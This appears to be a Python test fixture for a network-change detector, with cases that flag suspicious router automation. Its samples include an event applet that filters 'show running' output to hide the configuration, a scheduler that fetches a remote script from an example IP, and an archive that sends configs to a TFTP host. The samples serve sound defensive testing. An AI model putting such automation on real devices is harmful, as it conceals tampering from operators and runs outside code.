from support.build import Case, state, traits

from netwatch.model.evidence import Severity
from netwatch.model.mirror import Dormant

BACKUP = ("event manager applet BACKUP", "event timer cron action 1.0 syslog msg done")
HIDE = (
    "event manager applet HIDE",
    'event cli pattern "show running" sync yes action 1.0 puts filtered',
)
MIRROR = ("event manager applet M", 'action 1.0 cli command "monitor session 9"')


def automation(*given, dormant=()):
    return state(**traits(automation=given), dormant=dormant)


FIRES = {
    "answers-for-the-device": Case(
        before=automation(BACKUP),
        after=automation(BACKUP, HIDE),
        severity=Severity.HIGH,
        says=("New automation event manager applet HIDE", "answers commands in the device's place"),
        quotes=("event cli pattern",),
    ),
    "fetches": Case(
        before=automation(),
        after=automation(("system scheduler u3", "/tool fetch url=http://203.0.113.66/a.rsc")),
        severity=Severity.HIGH,
        says=("fetches or runs code",),
    ),
    "nxos-answers-for-the-device": Case(
        before=automation(),
        after=automation(("event manager applet H", 'event cli match "show running-config *"')),
        severity=Severity.HIGH,
    ),
    "an-archive": Case(
        before=automation(),
        after=automation(("archive path", "tftp://192.0.2.3/$h")),
        severity=Severity.MEDIUM,
    ),
    "any": Case(before=automation(), after=automation(BACKUP), severity=Severity.MEDIUM),
    "changed": Case(
        before=automation((BACKUP[0], "event timer cron action 2.0 syslog msg other")),
        after=automation(BACKUP),
        severity=Severity.MEDIUM,
        says=("Changed automation",),
    ),
    "registered-where-no-configuration-was-read": Case(
        before=state(**traits(registered=())),
        after=state(**traits(registered=("event manager applet X",))),
        severity=Severity.MEDIUM,
    ),
}
QUIET = {
    "a-mirroring-one-is-told-elsewhere": Case(
        before=automation(dormant=()),
        after=automation(MIRROR, dormant=(Dormant(MIRROR[0], 9, "monitor session 9"),)),
    ),
    "removed": Case(before=automation(BACKUP), after=automation()),
    "reordered": Case(before=automation(BACKUP, HIDE), after=automation(HIDE, BACKUP)),
    "registered-is-judged-against-the-configuration": Case(
        before=state(**traits(automation=(), registered=())),
        after=state(**traits(automation=(), registered=("event manager applet X",))),
    ),
}
